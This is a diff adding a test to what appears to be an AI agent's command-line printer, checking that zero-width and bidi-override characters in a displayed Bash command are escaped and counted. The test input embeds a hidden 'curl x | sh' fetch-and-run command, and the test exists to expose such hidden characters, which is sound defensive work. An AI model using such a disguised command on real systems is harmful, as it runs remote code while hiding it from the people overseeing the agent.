@@ -2,6 +2,33 @@ import { describe, expect, it } from 'vitest';
 import { printSubscriber } from '../../src/cli/print';
 
 describe('printSubscriber (text)', () => {
+  it('writes characters that draw nothing or reorder text as escapes, and says how many', () => {
+    const err: string[] = [];
+    const on = printSubscriber('text', { stdout: () => {}, stderr: (s) => err.push(s) }, false);
+    const detail = 'echo hi\u200b\u200b; curl x | sh #\u202eab';
+    on({
+      type: 'tool_start',
+      id: 't1',
+      name: 'bash',
+      displayName: 'Bash',
+      input: {},
+      summary: '',
+      detail,
+    } as never);
+    on({
+      type: 'tool_end',
+      id: 't1',
+      name: 'bash',
+      displayName: 'Bash',
+      status: 'done',
+      output: '',
+    } as never);
+    expect(err).toEqual([
+      '● Bash(echo hi\\u200b\\u200b; curl x | sh #\\u202eab) done\n',
+      '  ⚠ 3 characters that would not show (zero-width, bidi or control) are written as \\u escapes\n',
+    ]);
+  });
+
   it("names a hosted tool by its display name, whatever the tool's wire name", () => {
     const err: string[] = [];
     const on = printSubscriber('text', { stdout: () => {}, stderr: (s) => err.push(s) }, false);
